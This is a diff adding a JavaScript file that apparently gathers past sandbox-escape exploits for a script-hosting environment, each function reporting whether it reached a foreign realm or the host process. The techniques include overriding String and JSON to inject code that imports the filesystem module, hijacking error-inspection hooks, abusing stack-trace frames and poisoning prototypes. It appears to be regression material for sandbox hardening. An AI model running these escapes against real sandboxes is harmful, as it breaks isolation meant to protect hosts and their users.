@@ -1,0 +1,178 @@
+// Exploits that once left the context, or that a known sandbox fell to. Each returns what it reached, [] for nothing.
+function one() {
+  return 1;
+}
+
+/** Foreign are values of another realm: their prototypes lead to another Object, and from there to the process. */
+function isForeign(value) {
+  if ((typeof value !== 'object' && typeof value !== 'function') || value === null) return false;
+  let top = value;
+  for (let up = Object.getPrototypeOf(top); up !== null; up = Object.getPrototypeOf(top)) top = up;
+  return top !== Object.prototype && top !== value;
+}
+
+/** Notes the foreign ones of some values, and the process where their realm's Object.prototype leads to it. */
+function reach(found, ...values) {
+  for (const value of values) {
+    if (!isForeign(value)) continue;
+    found.push('foreign');
+    let top = value;
+    for (let up = Object.getPrototypeOf(top); up !== null; up = Object.getPrototypeOf(top)) top = up;
+    try {
+      Object.defineProperty(top, 'domain', {
+        configurable: true,
+        get() {
+          if (typeof this.kill === 'function') found.push('process');
+        },
+      });
+    } catch (error) {
+      found.push(error.name);
+    }
+  }
+}
+
+/** The template compiler once took its code from the script's own String. */
+async function templateString() {
+  const found = [];
+  const own = String;
+  String = () => "(function () { found.push('code'); globalThis.imported = import('node:fs'); })";
+  globalThis.found = found;
+  try {
+    HtmlService.createTemplate('x').evaluate();
+  } catch {}
+  String = own;
+  const { imported } = globalThis;
+  reach(found, imported);
+  await imported?.catch((error) => reach(found, error));
+  Promise.reject(1);
+  await null;
+  return found;
+}
+
+/** The same by whatever else the request or the reply for the code passes through. */
+async function templateReply() {
+  const found = [];
+  globalThis.found = found;
+  const code = "(function () { found.push('code'); globalThis.imported = import('node:fs'); })";
+  PropertiesService.getUserProperties().setProperty('code', code);
+  const template = HtmlService.createTemplate('x');
+  const { stringify, parse } = JSON;
+  const { get } = WeakMap.prototype;
+  const request = { type: 'Properties', method: 'getProperty', handle: 0, args: ['code'] };
+  Object.prototype.__defineGetter__('toJSON', () => () => request);
+  JSON.stringify = () => stringify(request);
+  JSON.parse = () => ({ ok: true, value: code });
+  WeakMap.prototype.get = () => ({ type: 'Properties', handle: 0, method: 'getProperty', value: code });
+  for (const name of ['value', 'code', '$']) {
+    Object.prototype.__defineGetter__(name, () => code);
+    Object.prototype.__defineSetter__(name, () => {});
+  }
+  try {
+    template.evaluate();
+  } catch {}
+  Object.assign(JSON, { stringify, parse });
+  WeakMap.prototype.get = get;
+  for (const name of ['value', 'code', '$', 'toJSON']) delete Object.prototype[name];
+  reach(found, globalThis.imported);
+  return found;
+}
+
+/** Whoever prints an error may ask it how, and would hand over the printer. */
+function printed(found) {
+  const { log } = console;
+  return Object.assign(new TypeError('x'), {
+    [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) {
+      reach(found, options, inspect);
+      log(`reached ${found}`);
+      return '';
+    },
+  });
+}
+
+/** Once past the prelude's own catch: reading the line of an error called the script's Number. */
+function throwPastPrelude() {
+  const found = [];
+  Number = () => {
+    throw printed(found);
+  };
+  throw new Error('x');
+}
+
+/** While the script loads, in the error's own description. */
+function throwOften() {
+  const found = [];
+  const thrower = () => {
+    throw printed(found);
+  };
+  for (const owner of [String, Number, Object, Array, Reflect, JSON]) {
+    for (const name of Object.getOwnPropertyNames(owner)) {
+      if (typeof owner[name] === 'function' && name !== 'prototype') owner[name] = thrower;
+    }
+  }
+  for (const { prototype } of [String, RegExp, Array, Map, WeakMap, Function, Error]) {
+    for (const name of Object.getOwnPropertyNames(prototype)) {
+      try {
+        if (name !== 'constructor' && typeof prototype[name] === 'function') prototype[name] = thrower;
+      } catch {}
+    }
+  }
+  globalThis.String = globalThis.Number = globalThis.Error = thrower;
+  return { a: [1, new Map(), new Date()] };
+}
+
+/** The host looks for a promise's number before it reports a rejection, and takes what it finds for one. */
+function rejectWithNumber() {
+  const found = [];
+  const number = {
+    [Symbol.toPrimitive]() {
+      throw printed(found);
+    },
+  };
+  const promise = Promise.reject(printed(found));
+  Object.setPrototypeOf(promise, new Proxy(Promise.prototype, { get: () => number }));
+  return found;
+}
+
+/** Frames of the host that a stack is made of. */
+function takeFrames() {
+  const found = [];
+  const own = globalThis.Error;
+  const prepareStackTrace = (_error, frames) => {
+    for (const frame of frames) if (frame.getFileName() !== 'main.js') found.push('frame');
+    reach(found, frames, ...frames.map((frame) => frame.getThis()), ...frames.map((frame) => frame.getFunction()));
+  };
+  try {
+    globalThis.Error = { prepareStackTrace };
+  } catch {}
+  try {
+    Object.defineProperty(globalThis, 'Error', { value: { prepareStackTrace } });
+  } catch {}
+  try {
+    null.x;
+  } catch (error) {
+    void error.stack;
+  }
+  try {
+    globalThis.Error = own;
+  } catch {}
+  return found;
+}
+
+/** Promises and streams of WebAssembly are settled by the host. */
+async function webAssembly() {
+  const found = [];
+  const WebAssembly = globalThis.WebAssembly ?? {};
+  for (const name of Object.getOwnPropertyNames(WebAssembly)) {
+    for (const source of [1, { then: (...settle) => reach(found, ...settle) }]) {
+      try {
+        const promise = WebAssembly[name](source);
+        reach(found, promise);
+        promise.catch((error) => reach(found, error));
+      } catch (error) {
+        reach(found, error);
+      }
+    }
+  }
+  for (let i = 0; i < 10; i += 1) await null;
+  return found;
+}
